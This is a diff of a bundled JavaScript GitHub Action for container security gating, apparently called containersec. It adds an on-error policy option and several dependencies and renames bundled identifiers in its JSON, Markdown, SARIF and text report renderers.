+  const rules9 = new RuleRegistry(checks.flatMap((check2) => check2.rules));
+  const { policy, notices } = await loadPolicy({ root, file: options.policyFile, rules: rules9 });
   if (options.vulnDb) policy.checks.images.vulnerabilities.source = options.vulnDb;
+  if (options.onError) {
+    policy["on-error"] = options.onError;
+    for (const id of CHECK_IDS) policy.checks[id]["on-error"] = options.onError;
+  }
   const images = options.images ?? [];
   const base = await baseTree(root, options.base, options.log);
   if (base.notice) notices.push(base.notice);
@@ -41335,20 +54273,20 @@ async function runGate(options) {
     runs.push(...unavailableRuns(policy, only, images).filter((r) => !shipped.has(r.id)));
     const order = (id) => CHECK_IDS.indexOf(id);
     runs.sort((a, b) => order(a.id) - order(b.id));
-    const result = applyGate({ runs, policy, rules, today: todayUtc(options.now) });
-    return { result, policy, rules, notices, root, ...base.commit ? { baseCommit: base.commit } : {} };
+    const result = applyGate({ runs, policy, rules: rules9, today: todayUtc(options.now) });
+    return { result, policy, rules: rules9, notices, root, ...base.commit ? { baseCommit: base.commit } : {} };
   } finally {
     base.tree?.close();
   }
 }
 
 // src/platform/github/event.ts
-import { readFileSync } from "node:fs";
+import { readFileSync as readFileSync2 } from "node:fs";
 function readEvent(env) {
   const file = env.GITHUB_EVENT_PATH;
   if (!file) return {};
   try {
-    return JSON.parse(readFileSync(file, "utf8"));
+    return JSON.parse(readFileSync2(file, "utf8"));
   } catch {
     return {};
   }
@@ -41402,14 +54340,19 @@ var package_default = {
   dependencies: {
     "@actions/core": "^3.0.1",
     ajv: "^8.20.0",
+    "dockerfile-ast": "^0.7.1",
+    fzstd: "^0.1.1",
     handlebars: "^4.7.10",
     minimatch: "^11.0.9",
+    "packageurl-js": "^2.0.1",
+    "sql.js": "^1.17.0",
     "tar-stream": "^3.2.2",
     yaml: "^2.9.1"
   },
   devDependencies: {
     "@eslint/js": "^9.39.5",
     "@types/node": "^20.19.43",
+    "@types/sql.js": "^1.4.11",
     "ajv-draft-04": "^1.0.0",
     esbuild: "^0.28.2",
     eslint: "^9.39.5",
@@ -41432,18 +54375,18 @@ var TOOL_URI = "https://github.com/containersec/containersec";
 // src/report/json.ts
 function renderJson(outcome) {
   const { result } = outcome;
-  const report = {
+  const report2 = {
     schemaVersion: 1,
     tool: { name: TOOL_NAME, version: TOOL_VERSION },
     verdict: result.verdict,
     policy: outcome.policy.file ?? null,
     base: outcome.baseCommit ?? null,
-    checks: result.checks.map((check) => ({
-      id: check.id,
-      status: check.status,
-      errors: check.errors,
-      notes: check.notes,
-      findings: check.findings
+    checks: result.checks.map((check2) => ({
+      id: check2.id,
+      status: check2.status,
+      errors: check2.errors,
+      notes: check2.notes,
+      findings: check2.findings
     })),
     exceptions: {
       expired: result.expiredExceptions,
@@ -41451,13 +54394,13 @@ function renderJson(outcome) {
     },
     notices: outcome.notices
   };
-  return `${JSON.stringify(report, null, 2)}
+  return `${JSON.stringify(report2, null, 2)}
 `;
 }
 
 // src/report/markdown.ts
 var import_handlebars = __toESM(require_lib(), 1);
-import { readFileSync as readFileSync2 } from "node:fs";
+import { readFileSync as readFileSync3 } from "node:fs";
 import path6 from "node:path";
 
 // src/report/escape.ts
@@ -41536,13 +54479,13 @@ function environment() {
   hb.registerHelper("verdictIcon", (v) => VERDICT_ICONS[v] ?? "");
   hb.registerHelper("statusIcon", (s) => STATUS_ICONS[s] ?? "");
   hb.registerHelper("severityIcon", (s) => SEVERITY_ICONS[s] ?? "");
-  hb.registerPartial("finding", readFileSync2(path6.join(templatesDir(), "finding.md.hbs"), "utf8").trimEnd());
+  hb.registerPartial("finding", readFileSync3(path6.join(templatesDir(), "finding.md.hbs"), "utf8").trimEnd());
   return hb;
 }
 var cachedDefault;
 function compileTemplate(source) {
   if (source === void 0) {
-    cachedDefault ??= compileTemplate(readFileSync2(path6.join(templatesDir(), "comment.md.hbs"), "utf8"));
+    cachedDefault ??= compileTemplate(readFileSync3(path6.join(templatesDir(), "comment.md.hbs"), "utf8"));
     return cachedDefault;
   }
   return environment().compile(source, { noEscape: true, strict: false, knownHelpersOnly: false });
@@ -41592,7 +54535,7 @@ function readCustomTemplate(root, relative) {
     throw new ConfigurationError("TEMPLATE", `report.template: ${relative} is outside the repository.`);
   }
   try {
-    return readFileSync2(absolute, "utf8");
+    return readFileSync3(absolute, "utf8");
   } catch {
     throw new ConfigurationError(
       "TEMPLATE",
@@ -41623,27 +54566,27 @@ function locationText2(finding) {
 function daysUntil(date, today) {
   return Math.round((Date.parse(`${date}T00:00:00Z`) - Date.parse(`${today}T00:00:00Z`)) / 864e5);
 }
-function view(check, finding, options) {
+function view(check2, finding, options) {
   const location2 = finding.location;
   const url = isFileLocation(location2) ? options.fileUrl?.(location2.path, location2.startLine) : void 0;
   const expires = finding.exception?.expires;
   const soon = !!expires && !finding.exception?.expired && daysUntil(expires, options.today) <= EXPIRY_WARNING_DAYS;
-  return { check, finding, locationText: locationText2(finding), ...url ? { url } : {}, expiresSoon: soon };
+  return { check: check2, finding, locationText: locationText2(finding), ...url ? { url } : {}, expiresSoon: soon };
 }
-function summarize(check) {
+function summarize(check2) {
   const bySeverity = zeroCounts();
-  for (const finding of check.findings)
+  for (const finding of check2.findings)
     if (!finding.exception || finding.exception.expired) bySeverity[finding.severity]++;
   return {
-    id: check.id,
-    title: CHECK_TITLES[check.id],
-    status: check.status,
-    blocking: check.findings.filter((f) => f.blocking).length,
-    newCount: check.findings.filter((f) => f.new && (!f.exception || f.exception.expired)).length,
-    total: check.findings.length,
+    id: check2.id,
+    title: CHECK_TITLES[check2.id],
+    status: check2.status,
+    blocking: check2.findings.filter((f) => f.blocking).length,
+    newCount: check2.findings.filter((f) => f.new && (!f.exception || f.exception.expired)).length,
+    total: check2.findings.length,
     bySeverity,
-    errors: check.errors,
-    notes: check.notes
+    errors: check2.errors,
+    notes: check2.notes
   };
 }
 function headline(verdict, blocking, checks) {
@@ -41662,7 +54605,7 @@ function headline(verdict, blocking, checks) {
 }
 function buildReportModel(outcome, options) {
   const { result } = outcome;
-  const views = result.checks.flatMap((check) => check.findings.map((f) => view(check.id, f, options)));
+  const views = result.checks.flatMap((check2) => check2.findings.map((f) => view(check2.id, f, options)));
   const active = (v) => !v.finding.exception || v.finding.exception.expired === true;
   const blocking = views.filter((v) => v.finding.blocking);
   const open3 = views.filter((v) => active(v) && !v.finding.blocking);
@@ -41717,24 +54660,24 @@ var SECURITY_SEVERITY = {
   low: "3.0",
   info: "0.0"
 };
-function ruleDescriptor(id, rule, finding) {
-  const title = rule?.title ?? finding.title;
-  const help = rule ? `${rule.description}
+function ruleDescriptor(id, rule35, finding) {
+  const title = rule35?.title ?? finding.title;
+  const help = rule35 ? `${rule35.description}
 
-Why: ${rule.rationale}
+Why: ${rule35.rationale}
 
-Fix: ${rule.fix}` : finding.message;
+Fix: ${rule35.fix}` : finding.message;
   return {
     id,
     name: id.replace(/[^A-Za-z0-9]+(.)?/g, (_, c) => c ? c.toUpperCase() : ""),
     shortDescription: { text: title },
-    fullDescription: { text: rule?.description ?? finding.message },
+    fullDescription: { text: rule35?.description ?? finding.message },
     help: { text: help, markdown: help },
     helpUri: `${TOOL_URI}/blob/main/docs/rules/${id}.md`,
-    defaultConfiguration: { level: LEVEL[rule?.severity ?? finding.severity] },
+    defaultConfiguration: { level: LEVEL[rule35?.severity ?? finding.severity] },
     properties: {
       tags: ["security", id.split("/")[0]],
-      "security-severity": SECURITY_SEVERITY[rule?.severity ?? finding.severity]
+      "security-severity": SECURITY_SEVERITY[rule35?.severity ?? finding.severity]
     }
   };
 }
@@ -41767,11 +54710,11 @@ function location(finding) {
     logicalLocations: [{ fullyQualifiedName: loc.layer ? `${loc.image}@${loc.layer}` : loc.image, kind: "module" }]
   };
 }
-function run(check, rules) {
+function run17(check2, rules9) {
   const descriptors = /* @__PURE__ */ new Map();
-  for (const finding of check.findings) {
+  for (const finding of check2.findings) {
     if (!descriptors.has(finding.ruleId))
-      descriptors.set(finding.ruleId, ruleDescriptor(finding.ruleId, rules.get(finding.ruleId), finding));
+      descriptors.set(finding.ruleId, ruleDescriptor(finding.ruleId, rules9.get(finding.ruleId), finding));
   }
   const ruleIds = [...descriptors.keys()];
   return {
@@ -41784,14 +54727,14 @@ function run(check, rules) {
         rules: [...descriptors.values()]
       }
     },
-    automationDetails: { id: `${TOOL_NAME}/${check.id}/` },
+    automationDetails: { id: `${TOOL_NAME}/${check2.id}/` },
     invocations: [
       {
-        executionSuccessful: check.status !== "error",
-        toolExecutionNotifications: check.errors.map((text) => ({ level: "error", message: { text } }))
+        executionSuccessful: check2.status !== "error",
+        toolExecutionNotifications: check2.errors.map((text) => ({ level: "error", message: { text } }))
       }
     ],
-    results: check.findings.map((finding) => ({
+    results: check2.findings.map((finding) => ({
       ruleId: finding.ruleId,
       ruleIndex: ruleIds.indexOf(finding.ruleId),
       level: LEVEL[finding.severity],
@@ -41813,7 +54756,7 @@ function run(check, rules) {
   };
 }
 function renderSarif(outcome) {
-  const runs = outcome.result.checks.filter((c) => c.status !== "skipped").map((c) => run(c, outcome.rules));
+  const runs = outcome.result.checks.filter((c) => c.status !== "skipped").map((c) => run17(c, outcome.rules));
   const log = { $schema: "https://json.schemastore.org/sarif-2.1.0.json", version: "2.1.0", runs };
   return `${JSON.stringify(log, null, 2)}
 `;
@@ -41882,12 +54825,12 @@ function renderText(model, style) {
   );
   for (const notice of model.notices) lines2.push(style.dim(`note: ${clean(notice)}`));
   lines2.push("");
-  for (const check of model.checks) {
-    const counts = check.status === "skipped" ? style.dim(check.notes[0] ?? "skipped") : `${check.total} finding(s), ${check.blocking} blocking, ${check.newCount} new`;
+  for (const check2 of model.checks) {
+    const counts = check2.status === "skipped" ? style.dim(check2.notes[0] ?? "skipped") : `${check2.total} finding(s), ${check2.blocking} blocking, ${check2.newCount} new`;
     lines2.push(
-      `  ${check.title.padEnd(18)} ${statusLabel(check.status, style).padEnd(style === PLAIN ? 8 : 20)} ${counts}`
+      `  ${check2.title.padEnd(18)} ${statusLabel(check2.status, style).padEnd(style === PLAIN ? 8 : 20)} ${counts}`
     );
-    for (const error2 of check.errors) lines2.push(`    ${style.red("error:")} ${clean(error2)}`);
+    for (const error2 of check2.errors) lines2.push(`    ${style.red("error:")} ${clean(error2)}`);
   }
   lines2.push(...section("Blocking", model.blocking, style));
   lines2.push(...section("New (not blocking)", model.newFindings, style));
@@ -41916,7 +54859,7 @@ async function ensureBase(root, sha) {
   const fetched = await git(root, ["fetch", "--no-tags", "--no-recurse-submodules", "--depth=1", "origin", sha]);
   if (fetched.code !== 0) info(`Could not fetch base commit ${sha}: ${fetched.stderr.trim()}`);
 }
-async function run2() {
+async function run18() {
   const env = process.env;
   try {
     const workspace = env.GITHUB_WORKSPACE ?? process.cwd();
@@ -41983,5 +54926,5 @@ async function run2() {
 }
 
 // src/index.ts
-await run2();
+await run18();
 /*! For license information please see index.js.LEGAL.txt */
